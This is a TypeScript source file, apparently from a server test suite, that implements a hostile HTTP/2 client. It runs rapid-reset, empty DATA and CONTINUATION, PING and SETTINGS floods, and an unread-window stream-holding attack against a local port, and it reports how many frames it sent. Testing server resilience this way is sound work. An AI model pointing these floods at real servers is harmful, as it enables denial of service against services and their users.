/**
 * A client that means harm: `bun attack.ts KIND PORT`. It goes on with a new
 * connection where one is ended, and prints as JSON how many frames it got
 * rid of, on how many connections, and how long that took.
 * @module
 */
import type { Socket } from "bun";
import {
  block,
  CONTINUATION,
  DATA,
  END_HEADERS,
  END_STREAM,
  frame,
  get,
  HEADERS,
  PING,
  post,
  RST_STREAM,
  SETTINGS,
  uint32,
} from "../harness/http2.ts";
import { type Attack, FRAMES, HELD_MS, RESETS, STREAMS_HELD } from "./attacks.ts";

const PREFACE = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
const BATCH = 500;
/** An attack that a server takes in silence and slowly ends here. */
const PATIENCE_MS = 15_000;
/** `/api/` is what all proxies pass on. */
const PATH = "/api/items";

interface Peer {
  queue: Buffer[];
  closed: boolean;
}

const [kind, port] = [process.argv[2] as Attack, Number(process.argv[3])];
const began = performance.now();
const counted =
  kind === "unread windows" ? await holdStreams() : await flood(kind === "rapid resets" ? RESETS : FRAMES);
console.log(JSON.stringify({ ...counted, ms: performance.now() - began }));
process.exit(0);

/** Asks for much and opens no window. */
async function holdStreams() {
  const socket = await connect(settings([4, 65_535]));
  const heads = Array.from({ length: STREAMS_HELD }, (_, i) =>
    frame(HEADERS, END_HEADERS | END_STREAM, 1 + 2 * i, block(get("/api/16mb"))),
  );
  send(socket, Buffer.concat(heads));
  await Bun.sleep(HELD_MS);
  return { frames: STREAMS_HELD, connections: 1 };
}

async function flood(total: number) {
  let [frames, connections] = [0, 0];
  while (frames < total && !isLate()) {
    const socket = await connect(settings());
    connections++;
    // What we are told is not read: answers pile up on the other side.
    if (kind !== "rapid resets") socket.pause();
    send(socket, opening());
    for (let at = 0; frames < total && !socket.data.closed && !isLate(); at += BATCH) {
      send(socket, batch(at));
      frames += BATCH;
      await taken(socket);
    }
    socket.terminate();
  }
  return { frames, connections };
}

function isLate(): boolean {
  return performance.now() - began > PATIENCE_MS;
}

function opening(): Buffer {
  if (kind === "empty DATA") return frame(HEADERS, END_HEADERS, 1, block(post(PATH)));
  if (kind === "empty CONTINUATION") return frame(HEADERS, 0, 1, block(get(PATH)));
  return Buffer.alloc(0);
}

function batch(at: number): Buffer {
  return Buffer.concat(Array.from({ length: BATCH }, (_, i) => one(at + i)));
}

function one(i: number): Buffer {
  switch (kind) {
    case "rapid resets": {
      const stream = 1 + 2 * i;
      const head = frame(HEADERS, END_HEADERS | END_STREAM, stream, block(get(PATH)));
      return Buffer.concat([head, frame(RST_STREAM, 0, stream, uint32(8))]);
    }
    case "empty DATA":
      return frame(DATA, 0, 1);
    case "PING":
      return frame(PING, 0, 0, "12345678");
    case "SETTINGS":
      return settings();
    default:
      return frame(CONTINUATION, 0, 1);
  }
}

function settings(...all: readonly (readonly [number, number])[]): Buffer {
  return frame(
    SETTINGS,
    0,
    0,
    Buffer.concat(all.map(([id, value]) => Buffer.concat([Buffer.of(0, id), uint32(value)]))),
  );
}

function send(socket: Socket<Peer>, bytes: Buffer): void {
  socket.data.queue.push(bytes);
  flush(socket);
}

function flush(socket: Socket<Peer>): void {
  const { queue } = socket.data;
  while (queue.length > 0) {
    const written = socket.write(queue[0]!);
    if (written < 0) socket.data.closed = true;
    if (written < queue[0]!.length) {
      queue[0] = queue[0]!.subarray(Math.max(0, written));
      return;
    }
    queue.shift();
  }
}

/** Waits until the kernel has taken what was sent, or nobody ever will. */
async function taken(socket: Socket<Peer>): Promise<void> {
  do await Bun.sleep(0);
  while (socket.data.queue.length > 0 && !socket.data.closed && !isLate());
}

async function connect(greeting: Buffer): Promise<Socket<Peer>> {
  const socket = await Bun.connect<Peer>({
    hostname: "127.0.0.1",
    port,
    data: { queue: [], closed: false },
    socket: {
      data() {},
      drain: flush,
      close: ended,
      error: ended,
    },
  });
  send(socket, Buffer.concat([PREFACE, greeting]));
  return socket;
}

function ended(socket: Socket<Peer>): void {
  socket.data.closed = true;
}
